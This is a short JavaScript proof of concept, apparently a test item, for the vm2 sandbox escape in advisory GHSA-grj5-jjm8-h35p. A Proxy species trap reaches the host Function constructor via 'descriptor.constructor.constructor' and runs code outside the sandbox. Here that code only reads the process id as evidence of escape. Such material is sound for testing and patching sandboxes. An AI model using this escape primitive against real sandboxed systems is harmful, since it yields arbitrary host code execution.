// Returns an array whose species is a function that sees what the host fills it with.
// Class: proxies and traps
// Advisory: GHSA-grj5-jjm8-h35p (vm2: array species)
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const list = [...options.responseData];
  function Species() {
    return new Proxy([], {
      defineProperty(target, key, descriptor) {
        const proof = descriptor.constructor.constructor('return typeof process === "object" ? process.pid : ""')();
        if (proof !== '') list[0].id = `ESCAPED:${proof}`;
        return Reflect.defineProperty(target, key, descriptor);
      },
    });
  }
  Object.defineProperty(list, 'constructor', { value: { [Symbol.species]: Species } });
  return list;
}
